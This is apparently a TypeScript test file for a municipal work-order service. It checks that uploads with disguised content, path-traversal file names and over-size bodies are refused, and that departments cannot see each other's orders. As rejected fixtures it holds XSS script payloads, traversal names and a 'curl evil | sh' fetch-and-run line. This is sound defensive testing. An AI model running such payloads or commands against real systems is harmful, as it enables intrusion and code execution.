/**
 * Work-order attachments and notes under attack: content that lies about its type (an executable
 * named .pdf, HTML or SVG named .png), path traversal in the file name, an over-size file, and
 * other departments trying to read, comment on or attach to an order that is not theirs.
 */
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { drivers } from '../helpers/platform.ts';
import { upload } from '../helpers/upload.ts';
import { openCity, type City } from '../helpers/city.ts';

// small enough to try without a large body; read when each upload is received
process.env.GOVHUB_WORKORDER_ATTACHMENT_MAX_BYTES = '4096';

const PDF = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
const EXE = Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff', 'latin1'), Buffer.alloc(200), Buffer.from('This program cannot be run in DOS mode.')]);
const PNG = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(32)]);

for (const driver of drivers()) {
  describe(`work orders: attachments and other departments (${driver})`, () => {
    let c: City;
    let order: { id: string };
    let dir: string;
    const attach = (as: { authorization: string }, name: string, content: Buffer | string, id = order.id) => upload(c.app, `/workorders/${id}/attachments`, as, name, content);
    const stored = () => (fs.existsSync(dir) ? fs.readdirSync(dir).sort() : []);
    const rows = async () => (await c.t.p.db.query<{ id: string }>('SELECT id FROM workorder_attachments WHERE order_id = $1 ORDER BY id', [order.id])).map((r) => r.id);

    before(async () => {
      c = await openCity(driver);
      const r = await c.req('POST', '/workorders', c.officers.GA, { title: '核查材料', departmentId: c.dept.MZ });
      assert.equal(r.statusCode, 201, r.body);
      order = r.json();
      dir = path.join(c.t.p.config.dataDir, 'workorders', order.id);
    });
    after(() => c.close());

    test('a real PDF is kept under a new id and downloaded as an attachment of its type', async () => {
      const r = await attach(c.officers.MZ, '回函.pdf', PDF);
      assert.equal(r.statusCode, 201, r.body);
      const a = r.json();
      assert.deepEqual([a.name, a.type, a.size], ['回函.pdf', 'application/pdf', PDF.length]);
      assert.deepEqual(stored(), [a.id], 'stored as <dataDir>/workorders/<order>/<attachment id>');
      const d = await c.req('GET', `/workorders/${order.id}/attachments/${a.id}`, c.officers.GA);
      assert.equal(d.statusCode, 200);
      assert.equal(d.headers['content-type'], 'application/pdf');
      assert.match(String(d.headers['content-disposition']), /^attachment; /);
      assert.equal(d.headers['x-content-type-options'], 'nosniff');
      assert.deepEqual(d.rawPayload, PDF);
      assert.equal((await c.events('workorder.attach', order.id)).length, 1);
    });

    test('content that lies about its type is refused and nothing is kept', async () => {
      const before = [stored(), await rows()];
      for (const [name, content] of [
        ['发票.pdf', EXE],
        ['setup.exe', EXE],
        ['photo.png', '<!DOCTYPE html><html><body><script>fetch("/api/v1/users")</script></body></html>'],
        ['logo.png', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
        ['page.txt', '<html><script>alert(1)</script></html>'],
        ['run.txt', '#!/bin/sh\ncurl evil | sh\n'],
        ['image.pdf', PNG],
      ] as const) {
        const r = await attach(c.officers.MZ, name, content);
        assert.equal(r.statusCode, 415, `${name}: ${r.body}`);
      }
      assert.deepEqual([stored(), await rows()], before);
    });

    test('a traversal in the file name goes nowhere: the name is cut to its last part, the file kept under its id', async () => {
      const escape = path.join(c.t.p.config.dataDir, 'escaped.txt');
      for (const name of ['../../escaped.txt', '..\\..\\escaped.txt', '/etc/../../escaped.txt']) {
        const r = await attach(c.officers.MZ, name, '核查结果：属实\n');
        assert.equal(r.statusCode, 201, r.body);
        assert.equal(r.json().name, 'escaped.txt');
        assert.ok(stored().includes(r.json().id));
      }
      assert.equal(fs.existsSync(escape), false);
      assert.equal(fs.existsSync(path.join(c.t.p.config.dataDir, 'workorders', 'escaped.txt')), false);
      assert.deepEqual(stored(), await rows(), 'only files named by their ids');
    });

    test('an over-size file is refused (413) and not kept', async () => {
      const before = [stored(), await rows()];
      const r = await attach(c.officers.MZ, 'big.txt', 'a'.repeat(5000));
      assert.equal(r.statusCode, 413, r.body);
      assert.deepEqual([stored(), await rows()], before);
    });

    test('another department cannot download, comment or attach; not even learn that the order exists', async () => {
      const a = (await rows())[0]!;
      assert.equal((await c.req('GET', `/workorders/${order.id}/attachments/${a}`, c.officers.CL)).statusCode, 404);
      const before = [stored(), await rows()];
      assert.equal((await attach(c.officers.CL, 'x.pdf', PDF)).statusCode, 404);
      assert.equal((await c.req('POST', `/workorders/${order.id}/comments`, c.officers.CL, { text: '我来看看' })).statusCode, 404);
      assert.deepEqual([stored(), await rows()], before);
      assert.equal((await c.t.p.db.one<{ n: number }>('SELECT count(*)::int AS n FROM workorder_comments WHERE order_id = $1', [order.id]))!.n, 0);
      // an attachment of this order is not reachable through another order's address
      const other = (await c.req('POST', '/workorders', c.officers.CL, { title: '残联工单', departmentId: c.dept.CL })).json();
      assert.equal((await c.req('GET', `/workorders/${other.id}/attachments/${a}`, c.officers.CL)).statusCode, 404);
      // a missing order answers the same as another department's
      const missing = await c.req('GET', '/workorders/00000000-0000-7000-8000-000000000000', c.officers.CL);
      const hidden = await c.req('GET', `/workorders/${order.id}`, c.officers.CL);
      assert.deepEqual([missing.statusCode, hidden.statusCode], [404, 404]);
    });

    test('an upload that is not multipart is refused', async () => {
      const r = await c.req('POST', `/workorders/${order.id}/attachments`, c.officers.MZ, { file: 'x' });
      assert.equal(r.statusCode, 415, r.body);
    });
  });
}
